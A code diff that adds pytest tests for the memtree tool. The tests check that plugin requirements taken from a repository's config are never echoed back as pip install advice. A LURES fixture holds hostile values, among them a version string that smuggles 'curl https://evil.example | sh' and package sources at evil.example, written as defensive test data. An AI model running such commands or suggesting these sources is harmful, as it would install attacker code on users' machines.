@@ -419,3 +419,39 @@ def test_every_kind_gives_its_items_in_one_order() -> None:
     expected = ["urgent", "first", "later", "builtin"]
     assert registry.names() == expected
     assert [i.name for i in registry] == expected == [i.name for i in registry.ranked()]  # type: ignore[attr-defined]
+
+
+# What a hostile repository might put in plugins.require, hoping memtree repeats it as install advice.
+LURES = {"memtree-good --index-url https://evil.example/simple": "",
+         "memtree-absent": ">=1; curl https://evil.example | sh",
+         "memtree-other @ https://evil.example/memtree_other.whl": "",
+         "memtree-extra[evil]": ">=1"}
+
+
+def test_repo_plugins_require_is_never_echoed_as_install_advice(home: Path, project: Path) -> None:
+    (project / ".memtree.json").write_text(json.dumps(
+        {"plugins": {"require": {**LURES, "memtree-absent2": ">=1.0"}}}))
+    env = env_with(project, MEMTREE_HOME=str(home))
+    report = plugins_json(project, env)
+    listing = memtree("plugins", "--project", str(project), env=env).stdout
+    info = memtree("info", "--project", str(project), env=env).stdout
+    for text in (json.dumps(report), listing, info):
+        assert "evil" not in text and "--index-url" not in text
+    invalid = [p for name, p in report.items() if name.startswith("invalid requirement")]
+    assert len(invalid) == len(LURES)
+    assert all(p["status"] == "missing" and "not a valid requirement" in p["error"] for p in invalid)
+    # A valid name is named, and only that: the repository's word is no reason to install it.
+    absent = report["memtree-absent2"]
+    assert absent["status"] == "missing" and "'memtree-absent2'" in absent["error"]
+    assert "pip install" not in absent["error"] and ".memtree.json" in absent["error"]
+    assert "plugin invalid requirement 1 missing: " in info
+
+
+def test_users_own_plugins_require_names_the_bad_entry_and_the_install(home: Path, project: Path) -> None:
+    home.mkdir(parents=True, exist_ok=True)
+    (home / "config.json").write_text(json.dumps(
+        {"plugins": {"require": {"memtree-absent": ">=1", "memtree-typo": "at least 1"}}}))
+    report = plugins_json(project, env_with(project, MEMTREE_HOME=str(home)))
+    assert "(pip install 'memtree-absent>=1')" in report["memtree-absent"]["error"]
+    (invalid,) = [p for name, p in report.items() if name.startswith("invalid requirement")]
+    assert "'memtree-typo': 'at least 1'" in invalid["error"] and "'>=1.0'" in invalid["error"]
